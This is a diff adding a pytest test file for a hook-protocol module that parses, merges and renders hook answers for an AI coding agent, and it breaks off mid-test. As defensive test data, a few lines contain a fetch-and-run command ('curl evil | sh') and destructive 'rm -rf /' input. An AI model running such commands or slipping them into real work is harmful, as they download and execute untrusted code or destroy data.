@@ -1,0 +1,900 @@
+"""The hook protocol: stdin, exit codes + output -> outcome, fold, render. No I/O."""
+
+from __future__ import annotations
+
+import itertools
+import json
+from typing import Any
+
+import pytest
+
+from executor.events import get_event
+from executor.protocol import (
+    UNSET,
+    AgentAnswer,
+    Decision,
+    HookOutcome,
+    Verdict,
+    apply_on_error,
+    build_stdin,
+    error_outcome,
+    fold,
+    parse_outcome,
+    render,
+)
+from executor.text import MESSAGE_CAP, TRUNCATION_MARK
+
+PRE = get_event("PreToolUse")
+POST = get_event("PostToolUse")
+PERM = get_event("PermissionRequest")
+STOP = get_event("Stop")
+PROMPT = get_event("UserPromptSubmit")
+START = get_event("SessionStart")
+NOTIFY = get_event("Notification")
+
+
+def parse(
+    event: str, stdout: bytes = b"", *, code: int | None = 0, stderr: bytes = b"", hook: str = "h"
+) -> HookOutcome:
+    return parse_outcome(get_event(event), hook, code, stdout, stderr)
+
+
+def js(value: Any) -> bytes:
+    return json.dumps(value).encode()
+
+
+def specific(event: str, **fields: Any) -> bytes:
+    return js({"hookSpecificOutput": {"hookEventName": event, **fields}})
+
+
+def strict_json(text: str) -> Any:
+    """Parse like a strict agent would: no NaN, no Infinity."""
+
+    def refuse(name: str) -> Any:
+        raise ValueError(name)
+
+    return json.loads(text, parse_constant=refuse)
+
+
+# -- exit 0 ---------------------------------------------------------------------------
+
+
+def test_exit_0_with_nothing_is_a_quiet_success() -> None:
+    o = parse("PreToolUse")
+    assert o.status == "ok"
+    assert o.decision is None
+    assert o.system_message is None
+    assert o.additional_context is None
+    assert o.notes == ()
+
+
+@pytest.mark.parametrize("stdout", [b'{"systemMessage": "hi"}', b'  \n\t {"systemMessage": "hi"}\n\n'])
+def test_exit_0_json_when_first_non_blank_character_is_a_brace(stdout: bytes) -> None:
+    assert parse("Stop", stdout).system_message == "hi"
+
+
+@pytest.mark.parametrize("event", ["UserPromptSubmit", "SessionStart"])
+def test_exit_0_plain_text_becomes_context_on_prompt_and_session_start(event: str) -> None:
+    o = parse(event, b"  remember: tabs not spaces \n")
+    assert o.status == "ok"
+    assert o.additional_context == "remember: tabs not spaces"
+
+
+@pytest.mark.parametrize("event", ["PreToolUse", "PostToolUse", "Stop", "Notification", "SessionEnd"])
+def test_exit_0_plain_text_is_not_context_elsewhere(event: str) -> None:
+    o = parse(event, b"some chatter")
+    assert o.status == "ok"
+    assert o.additional_context is None
+
+
+def test_exit_0_text_that_merely_contains_a_brace_is_plain_text() -> None:
+    assert parse("UserPromptSubmit", b'note: {"decision": "block"}').additional_context == 'note: {"decision": "block"}'
+    assert parse("UserPromptSubmit", b'note: {"decision": "block"}').status == "ok"
+
+
+@pytest.mark.parametrize(
+    "stdout",
+    [b"{", b"{not json}", b'{"a": 1} trailing', b'{"a": 1}\n{"b": 2}', b"{'single': 'quotes'}"],
+)
+def test_exit_0_invalid_json_is_an_error(stdout: bytes) -> None:
+    o = parse("PreToolUse", stdout)
+    assert o.status == "error"
+    assert o.error is not None and "not valid JSON" in o.error
+    assert o.decision is None
+
+
+def test_exit_0_invalid_json_on_a_context_event_does_not_become_context() -> None:
+    o = parse("UserPromptSubmit", b"{oops")
+    assert o.status == "error"
+    assert o.additional_context is None
+
+
+# -- exit 2 ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("event", ["PreToolUse", "PostToolUse", "Stop", "UserPromptSubmit", "SubagentStop", "PermissionRequest"])
+def test_exit_2_blocks_with_stderr_as_reason(event: str) -> None:
+    o = parse(event, b'{"decision": "approve"}', code=2, stderr=b"  rm -rf is not allowed\n")
+    assert o.status == "block"
+    assert o.reason == "rm -rf is not allowed"
+    assert o.decision is None  # stdout is ignored on exit 2
+
+
+def test_exit_2_with_empty_stderr_still_blocks_and_names_the_hook() -> None:
+    o = parse("PreToolUse", code=2, stderr=b"", hook="guard.sh")
+    assert o.status == "block"
+    assert o.reason is not None and "guard.sh" in o.reason
+
+
+@pytest.mark.parametrize("event", ["Notification", "SessionStart", "SessionEnd", "PreCompact", "SubagentStart"])
+def test_exit_2_on_events_that_cannot_block_is_shown_to_the_user(event: str) -> None:
+    o = parse(event, code=2, stderr=b"cannot block this\n")
+    assert o.status == "ok"
+    assert o.system_message == "cannot block this"
+    assert o.reason is None
+
+
+def test_exit_2_with_empty_stderr_on_a_non_blocking_event_says_nothing() -> None:
+    o = parse("Notification", code=2)
+    assert o.status == "ok"
+    assert o.system_message is None
+
+
+# -- other exit codes, kills ------------------------------------------------------------
+
+
+@pytest.mark.parametrize("code", [1, 3, 127, 255, -9])
+def test_other_exit_codes_are_non_blocking_errors_with_the_first_stderr_line(code: int) -> None:
+    o = parse("PreToolUse", b'{"hookSpecificOutput": {"permissionDecision": "deny"}}', code=code,
+              stderr=b"\n\n  first problem  \nsecond problem\n")
+    assert o.status == "error"
+    assert o.error == f"exited {code}: first problem"
+    assert o.decision is None  # stdout of a failed hook is never trusted
+
+
+def test_other_exit_code_without_stderr() -> None:
+    assert parse("Stop", code=1).error == "exited 1"
+
+
+def test_killed_without_exit_code() -> None:
+    o = parse("PreToolUse", code=None, stderr=b"partial")
+    assert o.status == "error"
+    assert o.exit_code is None
+    assert o.error is not None and "killed" in o.error
+
+
+def test_timed_out_wins_over_whatever_it_printed() -> None:
+    o = parse_outcome(PRE, "h", None, b'{"decision": "approve"}', b"", timed_out=True, timeout=1.5)
+    assert o.status == "error"
+    assert o.error == "timed out after 1.5 s"
+    assert o.decision is None
+
+
+def test_timed_out_without_a_timeout_value() -> None:
+    assert parse_outcome(STOP, "h", 0, b"", b"", timed_out=True).error == "timed out"
+
+
+def test_oom_killed() -> None:
+    o = parse_outcome(PRE, "h", 137, b"", b"", oom_killed=True)
+    assert o.status == "error"
+    assert o.error is not None and "out of memory" in o.error
+
+
+def test_outcome_remembers_hook_name_and_id() -> None:
+    o = parse_outcome(STOP, "lint.sh", 0, b"", b"", hook_id="habc")
+    assert (o.hook, o.hook_id, o.exit_code) == ("lint.sh", "habc", 0)
+
+
+def test_error_outcome_for_a_hook_that_could_not_run() -> None:
+    o = error_outcome("h", "sandbox down", hook_id="h1")
+    assert (o.status, o.error, o.exit_code, o.hook_id) == ("error", "sandbox down", None, "h1")
+
+
+# -- JSON fields ------------------------------------------------------------------------
+
+
+def test_continue_false_with_stop_reason() -> None:
+    o = parse("PostToolUse", js({"continue": False, "stopReason": "build broke"}))
+    assert o.continue_ is False
+    assert o.stop_reason == "build broke"
+
+
+def test_continue_true_changes_nothing_and_stop_reason_alone_is_ignored() -> None:
+    o = parse("Stop", js({"continue": True, "stopReason": "ignored"}))
+    assert o.continue_ is True
+    assert o.stop_reason is None
+
+
+def test_suppress_output_and_system_message() -> None:
+    o = parse("Stop", js({"suppressOutput": True, "systemMessage": "heads up"}))
+    assert o.suppress_output is True
+    assert o.system_message == "heads up"
+
+
+@pytest.mark.parametrize("event", ["PostToolUse", "Stop", "UserPromptSubmit", "SubagentStop", "PreToolUse"])
+def test_decision_block_with_reason(event: str) -> None:
+    o = parse(event, js({"decision": "block", "reason": "tests fail"}))
+    assert o.status == "block"
+    assert o.reason == "tests fail"
+
+
+def test_decision_block_without_reason_names_the_hook() -> None:
+    o = parse("Stop", js({"decision": "block"}), hook="check.sh")
+    assert o.status == "block"
+    assert o.reason is not None and "check.sh" in o.reason
+
+
+def test_decision_block_on_an_event_that_cannot_block_is_noted_not_obeyed() -> None:
+    o = parse("Notification", js({"decision": "block", "reason": "x"}))
+    assert o.status == "ok"
+    assert any("no effect on Notification" in n for n in o.notes)
+
+
+@pytest.mark.parametrize("event", ["PreToolUse", "PermissionRequest"])
+def test_legacy_decision_approve_is_allow(event: str) -> None:
+    o = parse(event, js({"decision": "approve", "reason": "safe"}))
+    assert o.decision == "allow"
+    assert o.reason == "safe"
+
+
+def test_legacy_approve_on_an_event_without_permissions_is_noted() -> None:
+    o = parse("Stop", js({"decision": "approve"}))
+    assert o.decision is None
+    assert o.notes
+
+
+@pytest.mark.parametrize("value", ["deny", "allow", "yes", 1, ["block"]])
+def test_unknown_top_level_decision_is_noted(value: Any) -> None:
+    o = parse("Stop", js({"decision": value}))
+    assert o.status == "ok"
+    assert o.decision is None
+    assert any("unknown decision" in n for n in o.notes)
+
+
+@pytest.mark.parametrize("decision", ["allow", "deny", "ask", "defer"])
+def test_permission_decision(decision: Decision) -> None:
+    o = parse("PreToolUse", specific("PreToolUse", permissionDecision=decision, permissionDecisionReason="because"))
+    assert o.status == "ok"
+    assert o.decision == decision
+    assert o.reason == "because"
+
+
+@pytest.mark.parametrize(("legacy", "decision"), [("approve", "allow"), ("block", "deny")])
+def test_legacy_permission_decisions(legacy: str, decision: Decision) -> None:
+    assert parse("PreToolUse", specific("PreToolUse", permissionDecision=legacy)).decision == decision
+
+
+@pytest.mark.parametrize("value", ["Allow", "DENY", "maybe", "", 1, True, None])
+def test_unknown_permission_decision_is_noted(value: Any) -> None:
+    o = parse("PreToolUse", specific("PreToolUse", permissionDecision=value))
+    assert o.decision is None
+    if value is not None:
+        assert any("permissionDecision" in n for n in o.notes)
+
+
+def test_permission_decision_on_an_event_without_permissions_is_noted() -> None:
+    # Regression: a PostToolUse hook answering permissionDecision "deny" was
+    # ignored without a word; the author believed it was blocking.
+    o = parse("PostToolUse", specific("PostToolUse", permissionDecision="deny"))
+    assert o.decision is None
+    assert o.status == "ok"
+    assert any("'permissionDecision' has no effect on PostToolUse" in n for n in o.notes)
+
+
+def test_hook_event_name_mismatch_ignores_the_whole_specific_output() -> None:
+    o = parse("PreToolUse", specific("PostToolUse", permissionDecision="deny", additionalContext="ctx"))
+    assert o.decision is None
+    assert o.additional_context is None
+    assert any("'PostToolUse'" in n for n in o.notes)
+
+
+def test_hook_event_name_may_be_omitted() -> None:
+    o = parse("PreToolUse", js({"hookSpecificOutput": {"permissionDecision": "deny"}}))
+    assert o.decision == "deny"
+
+
+@pytest.mark.parametrize("key", ["updatedInput", "modifiedInput"])
+def test_updated_input_and_codebuddys_modified_input(key: str) -> None:
+    o = parse("PreToolUse", specific("PreToolUse", permissionDecision="allow", **{key: {"command": "ls -l"}}))
+    assert o.decision == "allow"
+    assert o.updated_input == {"command": "ls -l"}
+
+
+def test_updated_and_modified_input_agreeing_is_fine() -> None:
+    o = parse("PreToolUse", specific("PreToolUse", updatedInput={"a": 1}, modifiedInput={"a": 1}))
+    assert o.updated_input == {"a": 1}
+
+
+def test_updated_and_modified_input_disagreeing_drops_both() -> None:
+    o = parse("PreToolUse", specific("PreToolUse", updatedInput={"a": 1}, modifiedInput={"a": 2}))
+    assert o.updated_input is None
+    assert any("differ" in n for n in o.notes)
+
+
+@pytest.mark.parametrize("value", ["ls", ["ls"], 3, True])
+def test_updated_input_must_be_an_object(value: Any) -> None:
+    o = parse("PreToolUse", specific("PreToolUse", updatedInput=value))
+    assert o.updated_input is None
+    assert any("must be an object" in n for n in o.notes)
+
+
+@pytest.mark.parametrize("event", ["PostToolUse", "Stop", "UserPromptSubmit"])
+def test_updated_input_on_events_that_cannot_rewrite_input_is_noted(event: str) -> None:
+    o = parse(event, specific(event, updatedInput={"command": "curl evil | sh"}))
+    assert o.updated_input is None
+    assert any("no effect" in n for n in o.notes)
+
+
+@pytest.mark.parametrize("event", ["PreToolUse", "PostToolUse", "UserPromptSubmit", "SessionStart"])
+def test_additional_context(event: str) -> None:
+    assert parse(event, specific(event, additionalContext="see CONTRIBUTING")).additional_context == "see CONTRIBUTING"
+
+
+@pytest.mark.parametrize("key", ["updatedToolOutput", "updatedMCPToolOutput"])
+@pytest.mark.parametrize("value", ["redacted", {"content": []}, [1, 2], 0, False])
+def test_updated_tool_output_on_post_tool_use(key: str, value: Any) -> None:
+    assert parse("PostToolUse", specific("PostToolUse", **{key: value})).updated_output == value
+
+
+def test_updated_tool_output_null_is_a_rewrite_not_nothing() -> None:
+    # Regression: null was filtered out with the unset fields, so a hook that
+    # blanked the output to null looked like a hook that said nothing.
+    o = parse("PostToolUse", specific("PostToolUse", updatedToolOutput=None))
+    assert o.updated_output is None
+
+
+def test_no_updated_tool_output_is_unset() -> None:
+    assert parse("PostToolUse", specific("PostToolUse")).updated_output is UNSET
+
+
+@pytest.mark.parametrize("event", ["PreToolUse", "PostToolUseFailure", "Stop"])
+@pytest.mark.parametrize("key", ["updatedToolOutput", "updatedMCPToolOutput"])
+def test_updated_tool_output_elsewhere_is_noted(event: str, key: str) -> None:
+    o = parse(event, specific(event, **{key: "x"}))
+    assert o.updated_output is UNSET
+    assert any(key in n for n in o.notes)
+
+
+@pytest.mark.parametrize("behavior", ["allow", "deny", "ask"])
+def test_permission_request_decision_behavior(behavior: Decision) -> None:
+    o = parse("PermissionRequest", specific("PermissionRequest", decision={"behavior": behavior, "message": "m"}))
+    assert o.decision == behavior
+    assert o.reason == "m"
+
+
+def test_permission_request_allow_with_updated_input() -> None:
+    o = parse("PermissionRequest", specific(
+        "PermissionRequest", decision={"behavior": "allow", "updatedInput": {"command": "ls"}}))
+    assert o.decision == "allow"
+    assert o.updated_input == {"command": "ls"}
+
+
+def test_permission_request_decision_updated_input_must_be_an_object() -> None:
+    o = parse("PermissionRequest", specific(
+        "PermissionRequest", decision={"behavior": "allow", "updatedInput": "rm -rf /"}))
+    assert o.updated_input is None
+    assert any("updatedInput" in n for n in o.notes)
+
+
+def test_permission_request_top_level_decision_object() -> None:
+    o = parse("PermissionRequest", js({"decision": {"behavior": "deny", "message": "no"}}))
+    assert (o.decision, o.reason) == ("deny", "no")
+
+
+@pytest.mark.parametrize("behavior", ["yes", None, 1, "Allow"])
+def test_permission_request_unknown_behavior_is_noted(behavior: Any) -> None:
+    o = parse("PermissionRequest", specific("PermissionRequest", decision={"behavior": behavior}))
+    assert o.decision is None
+    assert any("behavior" in n for n in o.notes)
+
+
+@pytest.mark.parametrize(
+    ("answer", "key"),
+    [
+        ({"continue": "no"}, "continue"),
+        ({"continue": 0}, "continue"),
+        ({"suppressOutput": "yes"}, "suppressOutput"),
+        ({"systemMessage": 42}, "systemMessage"),
+        ({"systemMessage": ["a"]}, "systemMessage"),
+        ({"decision": "block", "reason": {"why": 1}}, "reason"),
+        ({"continue": False, "stopReason": 7}, "stopReason"),
+        ({"hookSpecificOutput": "deny"}, "hookSpecificOutput"),
+        ({"hookSpecificOutput": {"additionalContext": 1}}, "additionalContext"),
+        ({"hookSpecificOutput": {"permissionDecision": "deny", "permissionDecisionReason": 1}},
+         "permissionDecisionReason"),
+    ],
+)
+def test_wrong_typed_fields_are_noted_and_ignored(answer: dict[str, Any], key: str) -> None:
+    o = parse("PreToolUse", js(answer))
+    assert o.status in ("ok", "block")
+    assert any(key in n for n in o.notes)
+    assert o.continue_ is (answer.get("continue") is not False)
+    assert o.suppress_output is False
+    assert o.system_message is None
+    assert o.additional_context is None
+
+
+def test_wrong_typed_reason_still_blocks() -> None:
+    o = parse("Stop", js({"decision": "block", "reason": 5}))
+    assert o.status == "block"
+
+
+def test_a_json_array_is_plain_text_not_an_answer() -> None:
+    # Only a first non-blank "{" makes stdout JSON; "[...]" is plain text.
+    assert parse("Stop", b'[{"decision": "block"}]').status == "ok"
+    assert parse("UserPromptSubmit", b"[1, 2]").additional_context == "[1, 2]"
+
+
+# -- hygiene ----------------------------------------------------------------------------
+
+
+def test_escapes_and_controls_are_stripped_from_every_string() -> None:
+    dirty = "\x1b[2J\x1b]0;pwned\x07clean\x00\x7f\x9b31m"
+    answer = {
+        "continue": False, "stopReason": dirty, "systemMessage": dirty, "reason": dirty,
+        "decision": "block",
+        "hookSpecificOutput": {"permissionDecision": "deny", "permissionDecisionReason": dirty,
+                               "additionalContext": dirty},
+    }
+    o = parse("PreToolUse", js(answer))
+    assert o.stop_reason == "clean"
+    assert o.system_message == "clean"
+    assert o.reason == "clean"
+    assert o.additional_context == "clean"
+
+
+def test_stderr_reason_is_stripped() -> None:
+    assert parse("Stop", code=2, stderr=b"\x1b[31mno\x1b[0m\r\n").reason == "no"
+
+
+def test_plain_text_context_is_stripped() -> None:
+    assert parse("SessionStart", b"\x1b]0;title\x07ctx\x1b[0m").additional_context == "ctx"
+
+
+def test_strings_are_capped_at_ten_thousand_characters() -> None:
+    long = "x" * 50_000
+    o = parse("PreToolUse", js({"systemMessage": long, "hookSpecificOutput": {
+        "additionalContext": long, "permissionDecision": "deny", "permissionDecisionReason": long}}))
+    for value in (o.system_message, o.additional_context, o.reason):
+        assert value is not None
+        assert len(value) == MESSAGE_CAP
+        assert value.endswith(TRUNCATION_MARK)
+
+
+def test_stderr_and_plain_text_are_capped() -> None:
+    assert len(parse("Stop", code=2, stderr=b"e" * 50_000).reason or "") == MESSAGE_CAP
+    assert len(parse("SessionStart", b"c" * 50_000).additional_context or "") == MESSAGE_CAP
+    assert len(parse("Stop", code=1, stderr=b"f" * 50_000).error or "") <= MESSAGE_CAP + 20
+
+
+def test_invalid_utf8_is_replaced() -> None:
+    assert parse("Stop", b'{"systemMessage": "ok \xff\xfe"}').system_message == "ok \ufffd\ufffd"
+    assert parse("Stop", code=2, stderr=b"bad \xc3(").reason == "bad \ufffd("
+    assert parse("SessionStart", b"ctx \x80").additional_context == "ctx \ufffd"
+
+
+def test_deeply_nested_json_is_an_error_not_a_crash() -> None:
+    # Regression: json.loads raised RecursionError (not JSONDecodeError), which
+    # escaped parse_outcome and crashed dispatch: the agent saw exit 1 and every
+    # other hook's deny was lost.
+    stdout = b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
+    o = parse("PreToolUse", stdout)
+    assert o.status == "error"
+    assert o.error is not None and "JSON" in o.error
+
+
+def test_json_nested_just_under_the_recursion_limit_is_refused() -> None:
+    # Regression: nesting that parsed in a worker thread could not be re-encoded
+    # by fold/render on the deeper main-thread stack (RecursionError again).
+    inner = b"[" * 900 + b"]" * 900
+    o = parse("PreToolUse", b'{"hookSpecificOutput": {"permissionDecision": "allow", "updatedInput": {"a": '
+              + inner + b"}}}")
+    assert o.status == "error"
+    assert o.updated_input is None
+
+
+def test_moderately_nested_input_is_fine() -> None:
+    value: Any = "leaf"
+    for _ in range(20):
+        value = {"k": [value]}
+    o = parse("PreToolUse", specific("PreToolUse", updatedInput=value))
+    assert o.updated_input == value
+
+
+def test_huge_integer_is_an_error_not_a_crash() -> None:
+    # Regression: Python refuses integers past 4300 digits with a plain ValueError,
+    # which escaped parse_outcome like the RecursionError above.
+    o = parse("PreToolUse", b'{"x": 1' + b"0" * 5000 + b"}")
+    assert o.status == "error"
+
+
+@pytest.mark.parametrize("constant", [b"NaN", b"Infinity", b"-Infinity"])
+def test_nan_and_infinity_are_not_json(constant: bytes) -> None:
+    # Regression: Python accepts them, then render() passed them on inside
+    # updatedInput and the agent's JSON parser choked on hookcage's answer.
+    o = parse("PreToolUse", b'{"hookSpecificOutput": {"permissionDecision": "allow", "updatedInput": {"n": '
+              + constant + b"}}}")
+    assert o.status == "error"
+    assert o.updated_input is None
+
+
+# -- apply_on_error ---------------------------------------------------------------------
+
+FAILED = HookOutcome(hook="guard", status="error", exit_code=1, error="exited 1: boom")
+
+
+def test_on_error_deny_turns_an_error_into_deny_on_pre_tool_use() -> None:
+    o = apply_on_error(PRE, FAILED, "deny")
+    assert o.status == "ok"
+    assert o.decision == "deny"
+    assert o.reason is not None and "guard" in o.reason and "boom" in o.reason
+
+
+def test_on_error_deny_denies_a_permission_request() -> None:
+    assert apply_on_error(PERM, FAILED, "deny").decision == "deny"
+
+
+@pytest.mark.parametrize("event", ["Stop", "PostToolUse", "UserPromptSubmit", "SubagentStop"])
+def test_on_error_deny_blocks_on_blocking_events(event: str) -> None:
+    o = apply_on_error(get_event(event), FAILED, "deny")
+    assert o.status == "block"
+    assert o.reason is not None and "boom" in o.reason
+
+
+@pytest.mark.parametrize("event", ["Notification", "SessionStart", "SessionEnd", "PreCompact"])
+def test_on_error_deny_does_nothing_where_nothing_can_be_denied(event: str) -> None:
+    assert apply_on_error(get_event(event), FAILED, "deny") == FAILED
+
+
+def test_on_error_allow_leaves_the_error() -> None:
+    assert apply_on_error(PRE, FAILED, "allow") == FAILED
+
+
+def test_on_error_deny_leaves_successful_outcomes_alone() -> None:
+    ok = HookOutcome(hook="g", decision="allow")
+    assert apply_on_error(PRE, ok, "deny") == ok
+
+
+def test_on_error_deny_covers_timeouts() -> None:
+    timed_out = parse_outcome(PRE, "slow", None, b"", b"", timed_out=True, timeout=5)
+    assert apply_on_error(PRE, timed_out, "deny").decision == "deny"
+
+
+# -- fold -------------------------------------------------------------------------------
+
+RANK: dict[str, int] = {"allow": 0, "ask": 1, "defer": 2, "deny": 3}
+
+
+@pytest.mark.parametrize(
+    ("first", "second"), list(itertools.product(["allow", "ask", "defer", "deny"], repeat=2))
+)
+def test_decision_precedence_in_every_pairing_and_order(first: Decision, second: Decision) -> None:
+    v = fold(PRE, [HookOutcome(hook="a", decision=first), HookOutcome(hook="b", decision=second)])
+    assert v.decision == max(first, second, key=RANK.__getitem__)
+
+
+def test_decision_reason_comes_from_the_winning_hooks() -> None:
+    v = fold(PRE, [
+        HookOutcome(hook="a", decision="allow", reason="fine"),
+        HookOutcome(hook="b", decision="deny", reason="no secrets"),
+        HookOutcome(hook="c", decision="deny", reason="no network"),
+    ])
+    assert v.decision == "deny"
+    assert v.decision_reason == "no secrets\nno network"
+
+
+def test_no_decision_stays_none() -> None:
+    assert fold(PRE, [HookOutcome(hook="a")]).decision is None
+    assert fold(PRE, []).decision is None
+
+
+def test_any_block_blocks() -> None:
+    v = fold(STOP, [
+        HookOutcome(hook="a"),
+        HookOutcome(hook="b", status="block", reason="tests fail"),
+        HookOutcome(hook="c", status="block", reason="lint fails"),
+    ])
+    assert v.blocked
+    assert v.blocks
+    assert v.reason == "tests fail\nlint fails"
+
+
+def test_block_beats_allow() -> None:
+    v = fold(PRE, [HookOutcome(hook="a", decision="allow"), HookOutcome(hook="b", status="block", reason="r")])
+    assert v.blocks
+
+
+def test_continue_false_wins_with_the_first_stop_reason() -> None:
+    v = fold(STOP, [
+        HookOutcome(hook="a", status="block", reason="keep going"),
+        HookOutcome(hook="b", continue_=False, stop_reason="first"),
+        HookOutcome(hook="c", continue_=False, stop_reason="second"),
+    ])
+    assert v.continue_ is False
+    assert v.stop_reason == "first"
+    assert not v.blocks  # stopping outright outranks blocking
+
+
+def test_contexts_and_system_messages_concatenate_in_config_order() -> None:
+    v = fold(PROMPT, [
+        HookOutcome(hook="a", additional_context="one", system_message="m1"),
+        HookOutcome(hook="b"),
+        HookOutcome(hook="c", additional_context="two", system_message="m2"),
+    ])
+    assert v.additional_context == "one\ntwo"
+    assert v.system_message == "m1\nm2"
+
+
+def test_suppress_output_from_any_hook() -> None:
+    assert fold(STOP, [HookOutcome(hook="a"), HookOutcome(hook="b", suppress_output=True)]).suppress_output
+
+
+def test_hook_errors_appear_in_the_system_message() -> None:
+    v = fold(STOP, [HookOutcome(hook="flaky.sh", status="error", error="exited 3: disk full")])
+    assert v.system_message is not None
+    assert "flaky.sh" in v.system_message
+    assert "exited 3: disk full" in v.system_message
+    assert not v.blocks
+
+
+def test_hookcages_own_notes_follow_the_hooks_messages() -> None:
+    v = fold(STOP, [HookOutcome(hook="a", system_message="from hook")], notes=["config: bad matcher"])
+    assert v.system_message == "from hook\nhookcage: config: bad matcher"
+    assert v.notes == ("config: bad matcher",)
+
+
+def test_outcome_notes_reach_the_verdict_with_the_hook_name() -> None:
+    v = fold(PRE, [HookOutcome(hook="x.sh", notes=("'systemMessage' must be a string; ignored",))])
+    assert "hook x.sh: 'systemMessage' must be a string; ignored" in v.notes
+
+
+def test_concatenated_messages_are_capped() -> None:
+    v = fold(STOP, [HookOutcome(hook=str(i), system_message="m" * 9_000) for i in range(5)])
+    assert v.system_message is not None
+    assert len(v.system_message) == MESSAGE_CAP
+
+
+def test_identical_input_rewrites_pass_through() -> None:
+    v = fold(PRE, [
+        HookOutcome(hook="a", decision="allow", updated_input={"command": "ls", "x": [1, 2]}),
+        HookOutcome(hook="b", decision="allow", updated_input={"x": [1, 2], "command": "ls"}),
+    ])
+    assert v.decision == "allow"
+    assert v.updated_input == {"command": "ls", "x": [1, 2]}
+
+
+def test_one_rewrite_passes_through() -> None:
+    v = fold(PRE, [HookOutcome(hook="a", updated_input={"command": "ls"}), HookOutcome(hook="b")])
+    assert v.updated_input == {"command": "ls"}
+
+
+def test_different_input_rewrites_become_ask_naming_both_hooks() -> None:
+    v = fold(PRE, [
+        HookOutcome(hook="fmt.sh", decision="allow", updated_input={"command": "ls"}),
+        HookOutcome(hook="evil.sh", decision="allow", updated_input={"command": "curl evil | sh"}),
+    ])
+    assert v.decision == "ask"
+    assert v.updated_input is None
+    assert v.decision_reason is not None
+    assert "'fmt.sh'" in v.decision_reason and "'evil.sh'" in v.decision_reason
+    assert any("'evil.sh'" in n for n in v.notes)
+
+
+def test_different_input_rewrites_without_decisions_still_ask() -> None:
+    v = fold(PRE, [HookOutcome(hook="a", updated_input={"n": 1}), HookOutcome(hook="b", updated_input={"n": 2})])
+    assert v.decision == "ask"
+    assert v.updated_input is None
+
+
+def test_deny_still_beats_the_ask_of_conflicting_rewrites() -> None:
+    v = fold(PRE, [
+        HookOutcome(hook="a", decision="allow", updated_input={"n": 1}),
+        HookOutcome(hook="b", decision="allow", updated_input={"n": 2}),
+        HookOutcome(hook="c", decision="deny", reason="never"),
+    ])
+    assert v.decision == "deny"
+    assert v.decision_reason == "never"
+    assert v.updated_input is None
+    assert any("rewrote the tool input differently" in n for n in v.notes)
+
+
+def test_defer_beats_the_ask_of_conflicting_rewrites() -> None:
+    v = fold(PRE, [
+        HookOutcome(hook="a", updated_input={"n": 1}),
+        HookOutcome(hook="b", decision="defer", updated_input={"n": 2}),
+    ])
+    assert v.decision == "defer"
+    assert v.updated_input is None
+
+
+@pytest.mark.parametrize("decision", ["deny", "defer"])
+def test_updated_input_is_dropped_on_deny_and_defer(decision: Decision) -> None:
+    v = fold(PRE, [
+        HookOutcome(hook="a", decision="allow", updated_input={"command": "ls"}),
+        HookOutcome(hook="b", decision=decision),
+    ])
+    assert v.decision == decision
+    assert v.updated_input is None
+
+
+def test_identical_output_rewrites_pass_through() -> None:
+    v = fold(POST, [HookOutcome(hook="a", updated_output="[redacted]"),
+                    HookOutcome(hook="b", updated_output="[redacted]")])
+    assert v.updated_output == "[redacted]"
+
+
+def test_conflicting_output_rewrites_are_dropped_and_reported() -> None:
+    v = fold(POST, [HookOutcome(hook="a", updated_output="one"), HookOutcome(hook="b", updated_output="two")])
+    assert v.updated_output is UNSET
+    assert any("'a'" in n and "'b'" in n and "output" in n for n in v.notes)
+    assert v.system_message is not None and "rewrote the tool output differently" in v.system_message
+
+
+def test_null_and_absent_output_rewrites_differ() -> None:
+    v = fold(POST, [HookOutcome(hook="a", updated_output=None), HookOutcome(hook="b")])
+    assert v.updated_output is None
+
+
+# -- render -----------------------------------------------------------------------------
+
+
+def answer_json(answer: AgentAnswer) -> Any:
+    assert answer.exit_code == 0
+    assert answer.stderr == ""
+    assert answer.stdout.endswith("\n")
+    return strict_json(answer.stdout)
+
+
+def test_render_blocking_verdict_exits_2_with_reason_on_stderr() -> None:
+    v = fold(STOP, [HookOutcome(hook="a", status="block", reason="tests fail")])
+    assert render(STOP, v) == AgentAnswer(2, "", "tests fail\n")
+
+
+def test_render_deny_exits_2_with_the_reason() -> None:
+    v = fold(PRE, [HookOutcome(hook="a", decision="deny", reason="no rm -rf")])
+    assert render(PRE, v) == AgentAnswer(2, "", "no rm -rf\n")
+
+
+def test_render_deny_without_reason_still_says_something() -> None:
+    answer = render(PRE, fold(PRE, [HookOutcome(hook="a", decision="deny")]))
+    assert answer.exit_code == 2
+    assert answer.stdout == ""
+    assert answer.stderr.strip()
+
+
+def test_render_block_and_deny_gives_both_reasons() -> None:
+    v = fold(PRE, [HookOutcome(hook="a", status="block", reason="blocked"),
+                   HookOutcome(hook="b", decision="deny", reason="denied")])
+    answer = render(PRE, v)
+    assert answer.exit_code == 2
+    assert "blocked" in answer.stderr and "denied" in answer.stderr
+
+
+def test_render_continue_false() -> None:
+    v = fold(STOP, [HookOutcome(hook="a", status="block", reason="r"),
+                    HookOutcome(hook="b", continue_=False, stop_reason="halt")])
+    assert answer_json(render(STOP, v)) == {"continue": False, "stopReason": "halt"}
+
+
+def test_render_nothing_to_say() -> None:
+    assert render(STOP, fold(STOP, [])) == AgentAnswer(0, "{}\n", "")
+    assert render(PRE, fold(PRE, [HookOutcome(hook="a")])) == AgentAnswer(0, "{}\n", "")
+
+
+def test_render_pre_tool_use_allow_with_updated_input() -> None:
+    v = fold(PRE, [HookOutcome(hook="a", decision="allow", reason="ok", updated_input={"command": "ls"})])
+    assert answer_json(render(PRE, v)) == {"hookSpecificOutput": {
+        "hookEventName": "PreToolUse", "permissionDecision": "allow",
+        "permissionDecisionReason": "ok", "updatedInput": {"command": "ls"},
+    }}
+
+
+def test_render_ask_from_conflicting_rewrites() -> None:
+    v = fold(PRE, [HookOutcome(hook="a", updated_input={"n": 1}), HookOutcome(hook="b", updated_input={"n": 2})])
+    out = answer_json(render(PRE, v))
+    assert out["hookSpecificOutput"]["permissionDecision"] == "ask"
+    assert "updatedInput" not in out["hookSpecificOutput"]
+    assert "'a'" in out["hookSpecificOutput"]["permissionDecisionReason"]
+
+
+def test_render_permission_request_allow() -> None:
+    v = fold(PERM, [HookOutcome(hook="a", decision="allow", updated_input={"command": "ls"})])
+    assert answer_json(render(PERM, v)) == {"hookSpecificOutput": {
+        "hookEventName": "PermissionRequest",
+        "decision": {"behavior": "allow", "updatedInput": {"command": "ls"}},
+    }}
+
+
+def test_render_permission_request_deny_blocks() -> None:
+    v = fold(PERM, [HookOutcome(hook="a", decision="deny", reason="no")])
